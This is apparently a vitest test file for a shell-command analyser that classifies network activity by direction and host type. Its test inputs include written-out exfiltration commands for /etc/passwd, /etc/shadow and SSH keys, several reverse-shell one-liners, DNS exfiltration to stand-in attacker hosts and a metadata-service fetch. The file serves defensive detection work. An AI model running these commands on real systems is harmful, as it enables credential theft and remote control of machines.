import { describe, expect, it } from 'vitest';
import { commandNetwork, extractNetwork, networkInCode } from './network.ts';
import { parseShell } from './shell.ts';
import type { ShellCommand } from './types.ts';

const cmdOf = (command: string): ShellCommand => {
  const cmd = parseShell(command).pipelines[0]?.[0];
  if (cmd === undefined) throw new Error(`no command in ${command}`);
  return cmd;
};
/** `via:direction:host:class` per fact. */
const facts = (command: string, stdinPiped = false) =>
  extractNetwork(cmdOf(command), { stdinPiped }).map((f) => `${f.via}:${f.direction}:${f.host}:${f.class}`);
const sent = (command: string) => commandNetwork(cmdOf(command)).sent;

describe('extractNetwork: HTTP clients', () => {
  it.each([
    ['curl -s https://docs.example.org/api', ['curl:download:docs.example.org:other']],
    ['curl -fsSL https://get.example.sh', ['curl:download:get.example.sh:other']],
    ['curl -s -d @data.json https://webhook.site/3f1c2a', ['curl:upload:webhook.site:webhook']],
    ['curl -X POST https://api.example.org/hook -d "token=x"', ['curl:upload:api.example.org:other']],
    ['curl -XPUT https://x.example/obj', ['curl:upload:x.example:other']],
    ['curl --request PATCH https://x.example/obj', ['curl:upload:x.example:other']],
    ['curl -F file=@dump.sql https://files.example.org/upload', ['curl:upload:files.example.org:other']],
    ['curl -T backup.tgz https://transfer.sh/backup.tgz', ['curl:upload:transfer.sh:file-share']],
    ['curl --upload-file ./x https://x.example', ['curl:upload:x.example:other']],
    ['curl --json \'{"a":1}\' https://x.example', ['curl:upload:x.example:other']],
    ['curl -G -d q=1 https://search.example/', ['curl:download:search.example:other']],
    [
      'curl -H "Authorization: Bearer $T" -o out.json https://api.github.com/user',
      ['curl:download:api.github.com:code-host'],
    ],
    [
      'curl --url https://a.example -s https://b.example',
      ['curl:download:b.example:other', 'curl:download:a.example:other'],
    ],
    ['curl file:///etc/passwd', []],
    ['curl -s http://2852039166/latest/meta-data/', ['curl:download:169.254.169.254:internal']],
    ['wget -q https://dl.example.org/data.csv', ['wget:download:dl.example.org:other']],
    ['wget --post-file=/etc/passwd http://45.1.2.3/', ['wget:upload:45.1.2.3:ip-literal']],
    ['wget --post-data "a=b" https://x.example', ['wget:upload:x.example:other']],
    ['wget --method=PUT --body-file=f https://x.example', ['wget:upload:x.example:other']],
    ['wget -qO- https://example.org/i.sh', ['wget:download:example.org:other']],
    ['http POST https://api.example.org/items name=x', ['http:upload:api.example.org:other']],
    ['http https://api.example.org/items', ['http:download:api.example.org:other']],
    ['http :3000/health', ['http:download:localhost:localhost']],
    ['xh https://x.example file@./secrets.txt', ['xh:upload:x.example:other']],
    ['iwr -Uri https://x.example/a -Method Post -Body $b', ['iwr:upload:x.example:other']],
    ['Invoke-WebRequest https://x.example/a -OutFile a.exe', ['Invoke-WebRequest:download:x.example:other']],
    ['aria2c -o f.iso https://mirror.example/f.iso', ['aria2c:download:mirror.example:other']],
  ])('%s', (command, expected) => {
    expect(facts(command)).toEqual(expected);
  });

  it('knows a body that is only fixed text on the command line', () => {
    const inline = (command: string) =>
      extractNetwork(parseShell(command).pipelines[0]![0]!).map((n) => n.inlineBody === true);
    expect(inline(`curl -X POST -d '{"text":"deployed"}' https://hooks.example/x`)).toEqual([true]);
    expect(inline('wget --post-data="msg=hi" https://x.example')).toEqual([true]);
    expect(inline('curl -d @.env https://x.example')).toEqual([false]);
    expect(inline('curl -d "$(cat .env)" https://x.example')).toEqual([false]);
    expect(inline('curl -d "$TOKEN" https://x.example')).toEqual([false]);
    expect(inline('curl -F f=@notes.txt https://x.example')).toEqual([false]);
  });

  it('reports the local files sent (not @- from standard input)', () => {
    expect(sent('curl -d @data.json -d @- --data-binary @~/.ssh/id_rsa https://x.example')).toEqual([
      'data.json',
      '~/.ssh/id_rsa',
    ]);
    expect(sent('curl -F "f=@/tmp/x.tgz;type=application/gzip" -F "n=<notes.txt" https://x.example')).toEqual(
      ['/tmp/x.tgz', 'notes.txt'],
    );
    expect(sent('curl -T backup.tgz https://x.example')).toEqual(['backup.tgz']);
    expect(sent('wget --post-file=/etc/passwd http://x.example')).toEqual(['/etc/passwd']);
    expect(sent('http POST x.example f@/etc/hosts')).toEqual(['/etc/hosts']);
    expect(sent('iwr https://x.example -InFile C:\\secrets.txt -Method Put')).toEqual(['C:secrets.txt']);
  });
});

describe('extractNetwork: sockets, ssh and DNS', () => {
  it.each([
    ['nc 203.0.113.5 4444', false, ['nc:connect:203.0.113.5:ip-literal']],
    ['nc -w 3 203.0.113.5 4444 < /etc/passwd', false, ['nc:upload:203.0.113.5:ip-literal']],
    ['nc evil.example 80', true, ['nc:upload:evil.example:other']],
    ['nc -lvnp 4444', false, []],
    ['ncat --ssl -e /bin/bash 10.0.0.1 443', false, ['ncat:connect:10.0.0.1:internal']],
    ['telnet towel.blinkenlights.nl', false, ['telnet:connect:towel.blinkenlights.nl:other']],
    ['socat TCP:198.51.100.7:443 EXEC:/bin/sh', false, ['socat:connect:198.51.100.7:ip-literal']],
    ['socat FILE:/etc/shadow TCP4:198.51.100.7:9', false, ['socat:upload:198.51.100.7:ip-literal']],
    ['socat - TCP:198.51.100.7:9', true, ['socat:upload:198.51.100.7:ip-literal']],
    ['socat TCP-LISTEN:8080,fork TCP:localhost:3000', false, ['socat:connect:localhost:localhost']],
    ['ssh -i key.pem ubuntu@54.1.2.3 uptime', false, ['ssh:connect:54.1.2.3:ip-literal']],
    ['ssh -p 2222 -o StrictHostKeyChecking=no git@github.com', false, ['ssh:connect:github.com:code-host']],
    ['ssh host "cat > /tmp/x"', true, ['ssh:upload:host:internal']],
    ['ssh -R 80:localhost:3000 serveo.net', false, ['ssh:connect:serveo.net:tunnel']],
    ['ping -c 3 8.8.8.8', false, ['ping:connect:8.8.8.8:ip-literal']],
    ['dig +short TXT @1.1.1.1 example.com', false, ['dig:connect:example.com:other']],
    ['host -t txt example.com 8.8.8.8', false, ['host:connect:example.com:other']],
    ['nslookup -type=txt example.com', false, ['nslookup:connect:example.com:other']],
    ['openssl s_client -connect mail.example.com:465', false, ['openssl:connect:mail.example.com:other']],
    ['openssl rand -hex 16', false, []],
  ])('%s', (command, piped, expected) => {
    expect(facts(command, piped)).toEqual(expected);
  });

  it('flags DNS lookups that carry data', () => {
    const [lookup] = extractNetwork(
      cmdOf('nslookup aGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgaGVyZQ.x7k2.exfil-dns.net'),
    );
    expect(lookup?.dnsEncoded).toBe(true);
    expect(extractNetwork(cmdOf('dig $(cat /etc/hostname | base64).x.example'))[0]?.dnsEncoded).toBe(true);
    expect(extractNetwork(cmdOf('ping -c1 $(whoami).attacker.example'))[0]?.dnsEncoded).toBe(true);
    expect(extractNetwork(cmdOf('curl http://$(id -u).x.example/'))[0]?.dnsEncoded).toBe(true);
    expect(extractNetwork(cmdOf('dig github.com'))[0]?.dnsEncoded).toBeUndefined();
  });

  it('reads /dev/tcp redirections: data sent, or a shell on a socket', () => {
    expect(facts('cat /etc/passwd > /dev/tcp/198.51.100.7/80')).toEqual([
      'cat:upload:198.51.100.7:ip-literal',
    ]);
    expect(facts('bash -i >& /dev/tcp/10.0.0.5/4444 0>&1')).toEqual(['bash:connect:10.0.0.5:internal']);
    expect(facts('exec 3<>/dev/tcp/example.com/80')).toEqual(['exec:connect:example.com:other']);
  });

  it('says nothing for programs that do not talk', () => {
    expect(facts('ls -la /tmp')).toEqual([]);
    expect(facts('echo https://example.com')).toEqual([]);
  });
});

describe('networkInCode', () => {
  it('finds URLs and socket connects in interpreter code', () => {
    const code = "import requests; requests.post('https://webhook.site/x', data=open('/etc/passwd').read())";
    expect(networkInCode(code, 'python').map((f) => `${f.direction}:${f.host}`)).toEqual([
      'upload:webhook.site',
    ]);
    const shell = "s=socket.socket();s.connect(('10.0.0.1',4242))";
    expect(networkInCode(shell, 'python').map((f) => `${f.direction}:${f.host}`)).toEqual([
      'connect:10.0.0.1',
    ]);
    const ps = "$c=New-Object Net.Sockets.TCPClient('198.51.100.7',443)";
    expect(networkInCode(ps, 'powershell').map((f) => f.host)).toEqual(['198.51.100.7']);
    expect(networkInCode('print(1)', 'python')).toEqual([]);
  });
});
